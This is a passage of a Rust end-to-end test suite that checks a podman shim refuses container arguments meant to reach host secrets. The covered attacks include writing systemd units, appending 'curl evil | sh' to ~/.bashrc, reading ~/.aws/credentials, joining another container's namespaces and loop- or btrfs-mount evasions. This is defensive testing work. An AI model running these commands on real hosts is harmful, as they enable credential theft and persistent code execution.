//! Real podman proof of the host-file and host-path classes: for each, the same argv run by
//! plain podman (the control) really reads a credential or writes a file that runs code on the
//! host, and run through the shim it is refused with exit 125 — the file is never created,
//! changed or read. A control that stops doing the dangerous thing fails the test, so the proof
//! cannot go stale.
//!
//! Rootful podman, with the machine facts `.ci/podman-setup.sh` records (or those
//! `NANOCLAW_SHIM_E2E_ENV` names, as in `e2e_podman`). Skips loudly without
//! podman or the fixture image; `NANOCLAW_SHIM_REQUIRE_PODMAN=1` turns a skip into a failure.

use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

const IMAGE: &str = "localhost/nanoclaw-shim-fixture:latest";
const ENV_FILE: &str = "/etc/nanoclaw-shim-ci/env";
/// Another environment's facts (`.ci/podman5-exec` names podman 5's), as in `e2e_podman`.
const ENV_FILE_VAR: &str = "NANOCLAW_SHIM_E2E_ENV";
const MARKER: &str = "AKIA-SHIM-E2E-MARKER-7f3a";

fn containers_conf() -> Option<String> {
    let file = std::env::var(ENV_FILE_VAR).unwrap_or_else(|_| ENV_FILE.to_string());
    std::fs::read_to_string(file).ok()?.lines().find_map(|l| {
        l.strip_prefix("CONTAINERS_CONF=")
            .map(|v| v.trim().to_string())
            .filter(|v| !v.is_empty())
    })
}

fn podman_ready() -> Result<PathBuf, String> {
    let podman = ["/usr/bin/podman", "/usr/local/bin/podman"]
        .iter()
        .map(PathBuf::from)
        .find(|p| p.exists())
        .ok_or("podman is not installed")?;
    let mut c = Command::new(&podman);
    c.args(["image", "exists", IMAGE]);
    if let Some(cc) = containers_conf() {
        c.env("CONTAINERS_CONF", cc);
    }
    match c.status() {
        Ok(s) if s.success() => Ok(podman),
        _ => Err(format!(
            "the fixture image {IMAGE} is missing (fixtures/image/build.sh)"
        )),
    }
}

/// podman, or `None` after saying loudly why the test skips (a failure instead under
/// `NANOCLAW_SHIM_REQUIRE_PODMAN`).
fn podman_or_skip() -> Option<PathBuf> {
    match podman_ready() {
        Ok(p) => Some(p),
        Err(why) => {
            assert!(
                std::env::var_os("NANOCLAW_SHIM_REQUIRE_PODMAN").is_none(),
                "real podman required: {why}"
            );
            eprintln!("\n==== SKIPPED e2e_host_files: {why} ====\n");
            None
        }
    }
}

/// A home directory with a credential, a systemd user folder and a shell start-up file; the
/// shim installed as `docker` in front of the real podman.
struct World {
    dir: tempfile::TempDir,
    podman: PathBuf,
}

impl World {
    fn new(podman: PathBuf) -> World {
        let dir = tempfile::tempdir().unwrap();
        let home = dir.path().join("home");
        std::fs::create_dir_all(home.join(".aws")).unwrap();
        std::fs::create_dir_all(home.join(".config/systemd/user")).unwrap();
        std::fs::write(
            home.join(".aws/credentials"),
            format!("AWS_SECRET_ACCESS_KEY={MARKER}\n"),
        )
        .unwrap();
        std::fs::write(home.join(".bashrc"), "# untouched\n").unwrap();
        let bin = dir.path().join("bin");
        std::fs::create_dir(&bin).unwrap();
        symlink(*crate::support::BIN, bin.join("docker")).unwrap();
        let policy = dir.path().join("policy.toml");
        std::fs::copy(
            Path::new(env!("CARGO_MANIFEST_DIR")).join("policy/default.toml"),
            &policy,
        )
        .unwrap();
        std::fs::set_permissions(&policy, std::fs::Permissions::from_mode(0o644)).unwrap();
        World { dir, podman }
    }

    fn home(&self) -> PathBuf {
        self.dir.path().join("home")
    }

    fn run(&self, program: &Path, args: &[String]) -> Output {
        self.run_env(program, args, &[])
    }

    fn run_env(&self, program: &Path, args: &[String], env: &[(&str, &str)]) -> Output {
        self.run_at(program, args, env, self.dir.path())
    }

    fn run_at(&self, program: &Path, args: &[String], env: &[(&str, &str)], cwd: &Path) -> Output {
        let mut c = Command::new(program);
        c.env_clear()
            .env(
                "PATH",
                format!(
                    "{}:/usr/sbin:/usr/bin:/sbin:/bin",
                    self.dir.path().join("bin").display()
                ),
            )
            .env("HOME", self.home())
            .env("NANOCLAW_SHIM_POLICY", self.dir.path().join("policy.toml"))
            .current_dir(cwd)
            .args(args)
            .stdin(Stdio::null());
        if let Some(cc) = containers_conf() {
            c.env("CONTAINERS_CONF", cc);
        }
        c.envs(env.iter().copied());
        c.output().unwrap()
    }

    fn control(&self, args: &[String]) -> Output {
        self.run(&self.podman.clone(), args)
    }

    fn shim(&self, args: &[String]) -> Output {
        self.run(&self.dir.path().join("bin/docker"), args)
    }
}

fn words(w: &World, s: &[&str]) -> Vec<String> {
    let home = w.home().display().to_string();
    s.iter().map(|t| t.replace('~', &home)).collect()
}

fn text(o: &Output) -> String {
    format!(
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    )
}

fn refused(o: &Output, rule: &str) {
    assert_eq!(o.status.code(), Some(125), "{}", text(o));
    assert!(o.stdout.is_empty(), "stdout before exec: {}", text(o));
    assert!(String::from_utf8_lossy(&o.stderr).contains(rule), "{}", text(o));
    assert!(!text(o).contains(MARKER), "the credential leaked: {}", text(o));
}

/// `run` again when podman lost a short-lived `run --rm` container's whole stdout (exit 0,
/// nothing printed: podman's known loss, 4.3 and 5 alike, about 1 in 40 on a loaded machine,
/// shared/reference/podman5-on-ci-machines.md; `e2e_podman` retries the same symptom), at
/// most twice, each retry announced on stderr. Every assertion applies to the last attempt.
fn stdout_kept(run: impl Fn() -> Output) -> Output {
    let mut out = run();
    for attempt in 2..=3 {
        if !(out.status.success() && out.stdout.is_empty()) {
            break;
        }
        eprintln!(
            "RETRIED (e2e stdout-loss, attempt {attempt} of 3): podman returned exit 0 with an EMPTY stdout for a short-lived `run --rm` container; stderr: {}",
            String::from_utf8_lossy(&out.stderr).trim()
        );
        out = run();
    }
    out
}

/// The control (podman without the shim) reads the credential with `a`, so the check can see
/// a leak; through the shim, `a` is refused by `rule` and leaks nothing.
#[track_caller]
fn leaked_without_refused_with(w: &World, a: &[String], rule: &str) {
    let c = w.control(a);
    assert!(
        String::from_utf8_lossy(&c.stdout).contains(MARKER),
        "control did not read it: {}",
        text(&c)
    );
    refused(&w.shim(a), rule);
}

#[test]
fn host_files_and_paths_are_never_touched() {
    let Some(podman) = podman_or_skip() else {
        return;
    };
    let w = World::new(podman);
    let sh = ["--entrypoint", "/bin/sh", IMAGE, "-c"];

    // 1. A cid file written into the systemd user folder: a unit file the host would load.
    let unit = w.home().join(".config/systemd/user/agent.service");
    let mut a = words(
        &w,
        &["run", "--rm", "--cidfile", "~/.config/systemd/user/agent.service"],
    );
    a.extend(words(&w, &sh));
    a.push("true".into());
    let c = w.control(&a);
    assert!(
        c.status.success() && unit.exists(),
        "control did not write the file: {}",
        text(&c)
    );
    std::fs::remove_file(&unit).unwrap();
    refused(&w.shim(&a), "deny.host-file");
    assert!(!unit.exists(), "the shim let podman write {}", unit.display());

    // 2. An env file that is a credential store: its secret would be the agent's environment.
    let mut a = words(&w, &["run", "--rm", "--env-file", "~/.aws/credentials"]);
    a.extend(words(&w, &sh));
    a.push("env".into());
    leaked_without_refused_with(&w, &a, "deny.host-file");

    // 3. A log path on a shell start-up file: the container's output appended to ~/.bashrc.
    let mut a = words(
        &w,
        &[
            "run",
            "--rm",
            "--log-driver",
            "k8s-file",
            "--log-opt",
            "path=~/.bashrc",
        ],
    );
    a.extend(words(&w, &sh));
    a.push("echo 'curl evil | sh'".into());
    let c = w.control(&a);
    let rc = std::fs::read_to_string(w.home().join(".bashrc")).unwrap();
    assert!(
        c.status.success() && rc.contains("curl evil"),
        "control did not write: {}",
        text(&c)
    );
    std::fs::write(w.home().join(".bashrc"), "# untouched\n").unwrap();
    refused(&w.shim(&a), "deny.host-file");
    assert_eq!(
        std::fs::read_to_string(w.home().join(".bashrc")).unwrap(),
        "# untouched\n"
    );

    // 3b. The same with the key spelled otherwise: podman reads it without regard to case.
    for (opt, file) in [("PATH=~/.bashrc", ".bashrc"), ("Path=~/.profile", ".profile")] {
        let target = w.home().join(file);
        std::fs::write(&target, "# untouched\n").unwrap();
        let mut a = words(&w, &["run", "--rm", "--log-driver", "k8s-file", "--log-opt", opt]);
        a.extend(words(&w, &sh));
        a.push("echo 'curl evil | sh'".into());
        let c = w.control(&a);
        let written = std::fs::read_to_string(&target).unwrap();
        assert!(
            c.status.success() && written.contains("curl evil"),
            "control did not write {file} with --log-opt {opt}: {}",
            text(&c)
        );
        std::fs::write(&target, "# untouched\n").unwrap();
        refused(&w.shim(&a), "deny.host-file");
        assert_eq!(
            std::fs::read_to_string(&target).unwrap(),
            "# untouched\n",
            "{opt}"
        );
    }

    // 4. A read-only mount of a credential folder.
    let mut a = words(&w, &["run", "--rm", "-v", "~/.aws:/a:ro"]);
    a.extend(words(&w, &sh));
    a.push("cat /a/credentials".into());
    leaked_without_refused_with(&w, &a, "deny.credentials");

    // 4b. A read-only mount of a hidden entry of the home that no list names: a tool's login
    //     (start-up files export tokens the same way). Every hidden entry is a credential store.
    std::fs::write(w.home().join(".some-tool-login"), format!("token={MARKER}\n")).unwrap();
    let mut a = words(&w, &["run", "--rm", "-v", "~/.some-tool-login:/t:ro"]);
    a.extend(words(&w, &sh));
    a.push("cat /t".into());
    leaked_without_refused_with(&w, &a, "deny.credentials");

    // 5. An inline volume that binds a host directory (no -v, no type=bind in sight).
    let mut a = words(
        &w,
        &[
            "run",
            "--rm",
            "--mount",
            "type=volume,dst=/x,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=~/.aws",
        ],
    );
    a.extend(words(&w, &sh));
    a.push("cat /x/credentials".into());
    leaked_without_refused_with(&w, &a, "deny.sensitive-mount");

    // 6. The same with the device relative to the working directory (podman's own), which no
    //    check of a path could have seen for what it is: inline driver options are refused.
    // From the working directory (the test's folder) up to `/`, then down to `~/.aws`.
    let up = "../".repeat(w.dir.path().components().count());
    let aws = w.home().join(".aws").display().to_string();
    let device = format!(
        "type=volume,dst=/x,volume-opt=type=none,volume-opt=o=bind,volume-opt=device={up}{}",
        aws.trim_start_matches('/')
    );
    let mut a = words(&w, &["run", "--rm", "--mount", &device]);
    a.extend(words(&w, &sh));
    a.push("cat /x/credentials".into());
    leaked_without_refused_with(&w, &a, "deny.sensitive-mount");

    // 7. An image mount whose source names a store: to look the image up podman first makes a
    //    containers/storage store where the source says (the fiftieth look's: through links a
    //    container planted there, root chowned a folder and truncated a file), then the
    //    container starts from the default store as if nothing happened.
    let store = w.home().join(".config/systemd/user/store");
    let spec = format!(
        "type=image,src=containers-storage:[vfs@{}+{}]{IMAGE},dst=/x",
        store.display(),
        w.home().join("run").display()
    );
    let mut a = words(&w, &["run", "--rm", "--mount", &spec]);
    a.extend(words(&w, &sh));
    a.push("true".into());
    let c = w.control(&a);
    assert!(
        c.status.success() && store.join("vfs").exists(),
        "control did not make the store: {}",
        text(&c)
    );
    std::fs::remove_dir_all(&store).unwrap();
    let _ = std::fs::remove_dir_all(w.home().join("run"));
    refused(&w.shim(&a), "deny.host-file");
    assert!(!store.exists(), "the shim let podman make {}", store.display());
}

/// Another agent's container is not one to join: with its process namespace (`--pid
/// container:B`), a container reads B's environment, B's token among it, from `/proc`. The
/// control (plain podman) reads it; through the shim the same argv is refused.
/// nanoclaw's checkout (the working directory, holding `package.json`) is written only in its
/// data folders: the CLI the newest nanoclaw links onto `PATH` (`bin/ncl`), rewritten through a
/// read-write mount, ran on the host (the thirty-first pass's look). Plain podman lets the
/// container rewrite it; through the shim the mount is refused and the file is untouched, while
/// the group's own folder is written as nanoclaw's argv writes it.
#[test]
fn a_project_s_code_is_never_written() {
    let Some(podman) = podman_or_skip() else {
        return;
    };
    let w = World::new(podman);
    let project = w.dir.path().join("nanoclaw");
    std::fs::create_dir_all(project.join("bin")).unwrap();
    std::fs::create_dir_all(project.join("groups/main")).unwrap();
    std::fs::write(project.join("package.json"), "{\"name\":\"nanoclaw\"}\n").unwrap();
    let ncl = project.join("bin/ncl");
    std::fs::write(&ncl, "#!/bin/sh\necho operator cli\n").unwrap();
    std::fs::set_permissions(project.join("bin"), std::fs::Permissions::from_mode(0o777)).unwrap();
    std::fs::set_permissions(&ncl, std::fs::Permissions::from_mode(0o777)).unwrap();
    std::fs::set_permissions(
        project.join("groups/main"),
        std::fs::Permissions::from_mode(0o777),
    )
    .unwrap();
    let argv = |src: &str, script: &str| -> Vec<String> {
        [
            "run",
            "--rm",
            "--user",
            "1000:1000",
            "-v",
            &format!("{}:/w", project.join(src).display()),
            "--entrypoint",
            "/bin/sh",
            IMAGE,
            "-c",
            script,
        ]
        .iter()
        .map(|s| s.to_string())
        .collect()
    };
    let rewrite = argv("bin", "echo 'echo AGENT-CODE' > /w/ncl");
    let c = w.run_at(&w.podman, &rewrite, &[], &project);
    assert!(c.status.success(), "control: {}", text(&c));
    assert!(
        std::fs::read_to_string(&ncl).unwrap().contains("AGENT-CODE"),
        "control did not rewrite bin/ncl: {}",
        text(&c)
    );
    std::fs::write(&ncl, "#!/bin/sh\necho operator cli\n").unwrap();
    let o = w.run_at(&w.dir.path().join("bin/docker"), &rewrite, &[], &project);
    refused(&o, "deny.host-exec");
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("writable_project_dirs"),
        "{}",
        text(&o)
    );
    assert_eq!(
        std::fs::read_to_string(&ncl).unwrap(),
        "#!/bin/sh\necho operator cli\n"
    );
    // The group's folder, as nanoclaw mounts it, is written.
    let own = argv("groups/main", "echo note > /w/NOTES.md");
    let o = w.run_at(&w.dir.path().join("bin/docker"), &own, &[], &project);
    assert!(o.status.success(), "{}", text(&o));
    assert_eq!(
        std::fs::read_to_string(project.join("groups/main/NOTES.md")).unwrap(),
        "note\n"
    );
}

#[test]
fn another_agent_s_namespaces_are_never_joined() {
    let Some(podman) = podman_or_skip() else {
        return;
    };
    let w = World::new(podman);
    let other = format!("nanoclaw-shim-e2e-other-{}", std::process::id());
    let token = format!("AGENT_TOKEN={MARKER}");
    let b = w.control(
        &[
            "run",
            "-d",
            "--rm",
            "--name",
            &other,
            "-e",
            &token,
            "--entrypoint",
            "/bin/sleep",
            IMAGE,
            "60",
        ]
        .map(String::from),
    );
    assert!(b.status.success(), "the other agent did not start: {}", text(&b));
    // Removed however the test ends.
    struct Gone<'a>(&'a World, &'a str);
    impl Drop for Gone<'_> {
        fn drop(&mut self) {
            let _ = self.0.control(&["rm", "-f", "-t", "0", self.1].map(String::from));
        }
    }
    let _gone = Gone(&w, &other);
    let read = "cat /proc/[0-9]*/environ | tr '\\0' '\\n'".to_string();
    for ns in ["--pid", "--ipc", "--uts"] {
        let join = format!("{ns}=container:{other}");
        let a: Vec<String> = [
            "run",
            "--rm",
            &join,
            "--entrypoint",
            "/bin/sh",
            IMAGE,
            "-c",
            &read,
        ]
        .map(String::from)
        .to_vec();
        // The process namespace shows the other's environment; the others are refused alike.
        if ns == "--pid" {
            leaked_without_refused_with(&w, &a, "deny.container-namespace");
        } else {
            refused(&w.shim(&a), "deny.container-namespace");
        }
    }
}

/// The operator's proxy, credentials in its URL, stays out of the agent: plain podman copies
/// `HTTPS_PROXY` from its own environment into the container (`--http-proxy` defaults to true);
/// through the shim (`compat.http-proxy`) the container has none, and a proxy nanoclaw passes
/// with `-e` still arrives.
#[test]
fn the_host_s_proxy_stays_out_of_the_container() {
    let Some(podman) = podman_or_skip() else {
        return;
    };
    let w = World::new(podman);
    let proxy = format!("http://operator:{MARKER}@proxy.invalid:3128");
    let env = [("HTTPS_PROXY", proxy.as_str())];
    let a: Vec<String> = [
        "run",
        "--rm",
        "-e",
        "AGENT_PROXY_SET=yes",
        "--entrypoint",
        "/bin/sh",
        IMAGE,
        "-c",
        "env",
    ]
    .map(String::from)
    .to_vec();
    let c = stdout_kept(|| w.run_env(&w.podman.clone(), &a, &env));
    assert!(
        c.status.success() && String::from_utf8_lossy(&c.stdout).contains(MARKER),
        "control did not copy the proxy: {}",
        text(&c)
    );
    let s = stdout_kept(|| w.run_env(&w.dir.path().join("bin/docker"), &a, &env));
    let out = String::from_utf8_lossy(&s.stdout);
    assert!(s.status.success(), "{}", text(&s));
    assert!(out.contains("AGENT_PROXY_SET=yes"), "{}", text(&s));
    assert!(
        !text(&s).contains(MARKER),
        "the host's proxy reached the container: {}",
        text(&s)
    );
}

/// podman cleans a mount source lexically before the kernel resolves it, after joining a
/// relative one to the working directory as Go names it (`PWD`, when that is the same
/// directory). So `../../.bashrc` from a directory reached through a symlink is the home's
/// `.bashrc`, not a file beside the symlink's target; and `/d/y/../x`, with `y` a symlink, is
/// `/d/x` (here a link to a credential), not `x` beside `y`'s target. The control really
/// writes the start-up file and reads the credential; through the shim both are refused.
#[test]
fn a_source_is_judged_as_podman_cleans_it() {
    let Some(podman) = podman_or_skip() else {
        return;
    };
    let w = World::new(podman);
    let dir = w.dir.path();
    // (a) A working directory reached through a symlink, named by PWD.
    std::fs::create_dir_all(dir.join("phys/x/y")).unwrap();
    std::fs::create_dir_all(w.home().join("proj")).unwrap();
    let lnk = w.home().join("proj/lnk");
    symlink(dir.join("phys/x/y"), &lnk).unwrap();
    let a: Vec<String> = [
        "run",
        "--rm",
        "-v",
        "../../.bashrc:/x:rw",
        // As root: the file is root's, the fixture's user is not. (After the mount: the shim
        // refuses the mount first, and `deny.root-user` after it.)
        "-u",
        "0",
        "--entrypoint",
        "/bin/sh",
        IMAGE,
        "-c",
        "echo '# written by the container' >> /x",
    ]
    .map(String::from)
    .to_vec();
    let in_lnk = |program: &Path| {
        let mut c = Command::new(program);
        c.env_clear()
            .env(
                "PATH",
                format!("{}:/usr/sbin:/usr/bin:/sbin:/bin", dir.join("bin").display()),
            )
            .env("HOME", w.home())
            .env("PWD", &lnk)
            .env("NANOCLAW_SHIM_POLICY", dir.join("policy.toml"))
            .current_dir(&lnk)
            .args(&a)
            .stdin(Stdio::null());
        if let Some(cc) = containers_conf() {
            c.env("CONTAINERS_CONF", cc);
        }
        c.output().unwrap()
    };
    let bashrc = w.home().join(".bashrc");
    let control = in_lnk(&w.podman);
    let after = std::fs::read_to_string(&bashrc).unwrap();
    assert!(
        after.contains("written by the container"),
        "control did not write ~/.bashrc: {}",
        text(&control)
    );
    std::fs::write(&bashrc, "# untouched\n").unwrap();
    refused(&in_lnk(&dir.join("bin/docker")), "deny.host-exec");
    assert_eq!(std::fs::read_to_string(&bashrc).unwrap(), "# untouched\n");

    // (b) `..` after a symlink, cleaned away by podman.
    symlink("/usr", dir.join("y")).unwrap();
    symlink(w.home().join(".aws"), dir.join("x")).unwrap();
    let src = format!("{}/y/../x:/k:ro", dir.display());
    let b = words(
        &w,
        &[
            "run",
            "--rm",
            "-v",
            &src,
            "--entrypoint",
            "/bin/cat",
            IMAGE,
            "/k/credentials",
        ],
    );
    leaked_without_refused_with(&w, &b, "deny.credentials");
}

/// A file system mounted a second time names every file in it again: an ostree host's
/// `/sysroot` is its root, a bind mount of a home's folder beneath a writable root names its
/// credentials under a path no list holds, and an overlay shows its lower layer's files at its
/// own point (an overlayroot host's `/media/root-ro/home` is `/home`'s). The thirty-second
/// pass's looks read another user's key through `mount --bind / <folder>` and an overlay's lower
/// layer; each source is judged under every name the mount table gives it. Here `~/.kube` is,
/// in a mount namespace of the test's own, a folder bound elsewhere, and then an overlay whose
/// lower layer lies elsewhere; its `config` is a name no list refuses.
#[test]
fn a_credential_is_never_read_through_a_second_mount() {
    let Some(podman) = podman_or_skip() else {
        return;
    };
    use std::os::unix::fs::MetadataExt;
    if std::fs::metadata("/proc/self").unwrap().uid() != 0 {
        eprintln!("skipped: mounting a folder a second time needs root");
        return;
    }
    let w = World::new(podman);
    let kube = w.home().join(".kube");
    std::fs::create_dir_all(&kube).unwrap();
    let other = w.dir.path().join("cluster");
    std::fs::create_dir(&other).unwrap();
    for d in ["upper", "work"] {
        std::fs::create_dir(w.dir.path().join(d)).unwrap();
    }
    let (k, o, t) = (
        kube.display().to_string(),
        other.display().to_string(),
        w.dir.path().display().to_string(),
    );
    let shim_dir = w.home().join(".config/nanoclaw-shim");
    std::fs::create_dir_all(&shim_dir).unwrap();
    let n = shim_dir.display().to_string();
    let backing = other.join("backing");
    std::fs::create_dir(&backing).unwrap();
    std::fs::create_dir(other.join("sub")).unwrap();
    // A disk image in `cluster` holding a file system with the config, loop-mounted at
    // `~/.kube`: a mount of `cluster` reads its blocks. Where this host has no loop devices
    // (a container), that setup is said and left out.
    let seed = w.dir.path().join("seed");
    std::fs::create_dir(&seed).unwrap();
    std::fs::write(seed.join("config"), format!("token: {MARKER}\n")).unwrap();
    let s = seed.display().to_string();
    // And a partitioned one (one partition, from 1 MiB, added by hand: `addpart`; its device
    // is `259:N`), mounted through a link the table names instead of the device (`mount -c`;
    // the thirty-fourth pass's second look read it so).
    std::fs::write(other.join("part.img"), vec![0u8; 2 << 20]).unwrap();
    let link = format!("/dev/nanoclaw-e2e-{}", std::process::id());
    // The partitioned image's loop devices (one a run) are no mount's to clear when their
    // namespace goes: detached when the test ends, passed or failed.
    struct Detach(String);
    impl Drop for Detach {
        fn drop(&mut self) {
            let _ = Command::new("sh").args(["-c", &self.0]).status();
        }
    }
    let _detach = Detach(format!(
        "ours=$(losetup -a | grep -F '{t}/' | cut -d: -f1); for l in $ours; do n=${{l#/dev/}}; losetup -a | grep -E \"[(](/dev)?/$n[)]\" | cut -d: -f1 | xargs -r -n1 losetup -d; done; for pass in 1 2 3; do losetup -a | grep -F '{t}/' | cut -d: -f1 | xargs -r -n1 losetup -d 2>/dev/null; sleep 0.2; done; rm -f '{link}' '{t}/node' '{link}-node' '{t}/lnode'"
    ));
    // btrfs (its mounts' numbers are made up, `0:N`): over two devices, the second's image in
    // `cluster` (the table names the first only), and mounted from a device node made outside
    // `/dev` (the third look read both). `.ci/run` installs btrfs-progs; elsewhere said and
    // left out.
    let btrfs = Path::new("/dev/loop-control").exists()
        && Command::new("mkfs.btrfs")
            .arg("--version")
            .output()
            .is_ok_and(|o| o.status.success());
    if !btrfs {
        eprintln!("btrfs over disk images: not tried, this host has no mkfs.btrfs or loop devices");
    }
    let written = format!("echo 'token: {MARKER}' > '{k}/config' && sync");
    let btrfs_images = btrfs.then(|| {
        [
            (
                None,
                format!(
                    "truncate -s 128M '{t}/first.img' '{o}/second.img' && a=$(losetup -f --show '{t}/first.img') && b=$(losetup -f --show '{o}/second.img') && mkfs.btrfs -q -f -d raid1 -m raid1 \"$a\" \"$b\" >/dev/null && mount \"$a\" '{k}' && {written}"
                ),
                "deny.credentials",
                "/k/second.img",
            ),
            (
                None,
                format!(
                    "truncate -s 128M '{o}/third.img' && l=$(losetup -f --show '{o}/third.img') && mkfs.btrfs -q -f \"$l\" >/dev/null && rm -f '{t}/node' && mknod '{t}/node' b $((0x$(stat -c %t \"$l\"))) $((0x$(stat -c %T \"$l\"))) && mount '{t}/node' '{k}' && {written}"
                ),
                "deny.credentials",
                "/k/third.img",
            ),
            // ... and from a node under `/dev` of another name (the fourth look's).
            (
                None,
                format!(
                    "truncate -s 128M '{o}/fourth.img' && l=$(losetup -f --show '{o}/fourth.img') && mkfs.btrfs -q -f \"$l\" >/dev/null && rm -f '{link}-node' && mknod '{link}-node' b $((0x$(stat -c %t \"$l\"))) $((0x$(stat -c %T \"$l\"))) && mount '{link}-node' '{k}' && {written}"
                ),
                "deny.credentials",
                "/k/fourth.img",
            ),
            // ... mounted with a relative source, which names no device (the thirty-fifth
            // pass's look): its devices are the kernel's, asked by the file system's id.
            (
                None,
                format!(
                    "truncate -s 128M '{o}/fifth.img' && l=$(losetup -f --show '{o}/fifth.img') && mkfs.btrfs -q -f \"$l\" >/dev/null && (cd /dev && mount -t btrfs -c \"${{l#/dev/}}\" '{k}') && {written}"
                ),
                "deny.credentials",
                "/k/fifth.img",
            ),
            // ... and from a node outside `/dev` that a folder has since replaced (the same
            // look's).
            (
                None,
                format!(
                    "truncate -s 128M '{o}/sixth.img' && l=$(losetup -f --show '{o}/sixth.img') && mkfs.btrfs -q -f \"$l\" >/dev/null && rm -rf '{t}/node6' && mknod '{t}/node6' b $((0x$(stat -c %t \"$l\"))) $((0x$(stat -c %T \"$l\"))) && mount '{t}/node6' '{k}' && {written} && rm '{t}/node6' && mkdir '{t}/node6'"
                ),
                "deny.credentials",
                "/k/sixth.img",
            ),
            // ... mounted first at a folder another btrfs covers since (the sixth look's: the
            // one on top answered for it).
            (
                None,
                format!(
                    "truncate -s 128M '{o}/seventh.img' '{t}/cover.img' && l=$(losetup -f --show '{o}/seventh.img') && c=$(losetup -f --show '{t}/cover.img') && mkfs.btrfs -q -f \"$l\" >/dev/null && mkfs.btrfs -q -f \"$c\" >/dev/null && mkdir -p '{t}/ba' && mount \"$l\" '{t}/ba' && mount \"$l\" '{k}' && {written} && mount \"$c\" '{t}/ba'"
                ),
                "deny.credentials",
                "/k/seventh.img",
            ),
        ]
    });
    let images = Path::new("/dev/loop-control").exists().then(|| {
        [
            (
                None,
                format!("mke2fs -q -F -t ext2 -d '{s}' '{o}/disk.img' 1M && mount -o loop '{o}/disk.img' '{k}'"),
                "deny.credentials",
                "/k/disk.img",
            ),
            (
                None,
                format!(
                    "l=$(losetup -f --show -P '{o}/part.img') && addpart \"$l\" 1 2048 2048 && mke2fs -q -F -t ext2 -d '{s}' \"${{l}}p1\" && ln -s \"${{l}}p1\" '{link}' && mount -c '{link}' '{k}' && rm '{link}'"
                ),
                "deny.credentials",
                "/k/part.img",
            ),
            // A loop device over a loop device over the image (the fourth look's).
            (
                None,
                format!(
                    "truncate -s 2M '{o}/outer.img' && a=$(losetup -f --show '{o}/outer.img') && b=$(losetup -f --show \"$a\") && mke2fs -q -F -t ext2 -d '{s}' \"$b\" && mount \"$b\" '{k}'"
                ),
                "deny.credentials",
                "/k/outer.img",
            ),
            // ... and over a node of it made outside `/dev` (the fifth look's).
            (
                None,
                format!(
                    "truncate -s 2M '{o}/outer2.img' && a=$(losetup -f --show '{o}/outer2.img') && rm -f '{t}/lnode' && mknod '{t}/lnode' b $((0x$(stat -c %t \"$a\"))) $((0x$(stat -c %T \"$a\"))) && b=$(losetup -f --show '{t}/lnode') && mke2fs -q -F -t ext2 -d '{s}' \"$b\" && mount \"$b\" '{k}'"
                ),
                "deny.credentials",
                "/k/outer2.img",
            ),
            // An image deleted while attached, still read through a second hard link in
            // `cluster`: the kernel names only the deleted one.
            (
                None,
                format!(
                    "mkdir -p '{t}/hidden' && truncate -s 1M '{t}/hidden/vault.img' && mke2fs -q -F -t ext2 -d '{s}' '{t}/hidden/vault.img' && ln -f '{t}/hidden/vault.img' '{o}/linked.img' && mount -o loop '{t}/hidden/vault.img' '{k}' && rm '{t}/hidden/vault.img'"
                ),
                "deny.sensitive-mount",
                "/k/linked.img",
            ),
            // A loop over a node of a loop made outside `/dev`, the node removed once attached
            // (the thirty-fifth pass's look): the kernel names the node as deleted.
            (
                None,
                format!(
                    "truncate -s 2M '{o}/outer3.img' && a=$(losetup -f --show '{o}/outer3.img') && rm -rf '{t}/lnode3' && mknod '{t}/lnode3' b $((0x$(stat -c %t \"$a\"))) $((0x$(stat -c %T \"$a\"))) && b=$(losetup -f --show '{t}/lnode3') && mke2fs -q -F -t ext2 -d '{s}' \"$b\" && mount \"$b\" '{k}' && rm '{t}/lnode3'"
                ),
                "deny.sensitive-mount",
                "/k/outer3.img",
            ),
            // An image mounted from a node outside `/dev` that another loop device's node has
            // replaced since: the table's number is the kernel's, whatever the name now names
            // (the thirty-fifth pass's look).
            (
                None,
                format!(
                    "truncate -s 2M '{o}/ext-a.img' '{t}/ext-b.img' && a=$(losetup -f --show '{o}/ext-a.img') && b=$(losetup -f --show '{t}/ext-b.img') && mke2fs -q -F -t ext2 -d '{s}' \"$a\" && rm -rf '{t}/n7' && mknod '{t}/n7' b $((0x$(stat -c %t \"$a\"))) $((0x$(stat -c %T \"$a\"))) && mount '{t}/n7' '{k}' && rm '{t}/n7' && mknod '{t}/n7' b $((0x$(stat -c %t \"$b\"))) $((0x$(stat -c %T \"$b\")))"
                ),
                "deny.credentials",
                "/k/ext-a.img",
            ),
            // ... and that a file has replaced (the same pass's fourth look).
            (
                None,
                format!(
                    "truncate -s 2M '{o}/ext-c.img' && a=$(losetup -f --show '{o}/ext-c.img') && mke2fs -q -F -t ext2 -d '{s}' \"$a\" && rm -rf '{t}/n8' && mknod '{t}/n8' b $((0x$(stat -c %t \"$a\"))) $((0x$(stat -c %T \"$a\"))) && mount '{t}/n8' '{k}' && rm '{t}/n8' && echo decoy > '{t}/n8'"
                ),
                "deny.credentials",
                "/k/ext-c.img",
            ),
        ]
    });
    if images.is_none() {
        eprintln!("a disk image loop-mounted: not tried, this host has no /dev/loop-control");
    }
    // A FUSE file system showing `~/.kube` beneath `cluster`: the table names fuse-overlayfs,
    // not its layers (the fifth look read `~/.docker` so). Where fuse-overlayfs is missing,
    // said and left out.
    let fuse = Command::new("fuse-overlayfs")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    if !fuse {
        eprintln!("fuse-overlayfs showing a credential store: not tried, this host has no fuse-overlayfs");
    }
    let views = fuse.then(|| {
        [
            (
                Some(&kube),
                format!(
                    "mkdir -p '{o}/fo/up' '{o}/fo/work' '{o}/fo/merged' && fuse-overlayfs -o 'lowerdir={k},upperdir={o}/fo/up,workdir={o}/fo/work' '{o}/fo/merged'"
                ),
                "deny.sensitive-mount",
                "/k/fo/merged/config",
            ),
            // The same program under its release's name, which the table names instead (the
            // thirty-fifth pass's look).
            (
                Some(&kube),
                format!(
                    "mkdir -p '{o}/fr/up' '{o}/fr/work' '{o}/fr/merged' && cp --remove-destination \"$(command -v fuse-overlayfs)\" '{t}/fuse-overlayfs-x86_64' && '{t}/fuse-overlayfs-x86_64' -o 'lowerdir={k},upperdir={o}/fr/up,workdir={o}/fr/work' '{o}/fr/merged'"
                ),
                "deny.sensitive-mount",
                "/k/fr/merged/config",
            ),
